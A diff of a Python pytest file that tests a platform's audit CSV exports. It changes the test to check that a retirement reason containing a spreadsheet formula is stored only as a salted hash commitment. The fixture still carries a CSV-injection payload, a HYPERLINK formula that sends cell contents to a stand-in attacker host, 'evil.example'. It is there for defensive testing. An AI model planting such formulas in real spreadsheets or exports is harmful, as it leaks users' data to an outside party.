@@ -10,6 +10,7 @@ import pytest
 
 from api.audit.exports import neutralise
 from api.auth.models import Role
+from api.retirement.certificates import reason_hash, reason_salt
 from tests.audit.conftest import Activity, AuditWorld
 from tests.world import assert_problem
 
@@ -82,14 +83,17 @@ def test_auditor_routes_refuse_every_other_role(indexed: AuditWorld) -> None:
 
 def test_exports_stream_and_equal_the_lists(indexed: AuditWorld, activity: Activity) -> None:
     aw = indexed
-    # A reason a spreadsheet would run as a formula: the CSV shows it as text (OWASP).
+    # A reason a spreadsheet would run as a formula never reaches the chain: the platform puts
+    # its salted commitment there, which the index and CSV keep as is (issue 15; the CSV's
+    # neutralising is tests/unit/test_csv_injection.py).
     formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
-    activity.retire(aw.platform.accounts.bob, 5, reason=formula)
+    committed = reason_hash(reason_salt("0x" + "5a" * 32), formula)
+    activity.retire(aw.platform.accounts.bob, 5, reason=committed)
     aw.index()
     headers = aw.auditor().headers
     retirements = aw.client.get("/audit/retirements/export", headers=headers)
     reasons = [row["reason"] for row in csv.DictReader(io.StringIO(retirements.text))]
-    assert "'" + formula in reasons and formula not in reasons
+    assert committed in reasons and not any("HYPERLINK" in reason for reason in reasons)
     for path in LISTS:
         listed = _all(aw, path, headers)
         assert listed, path
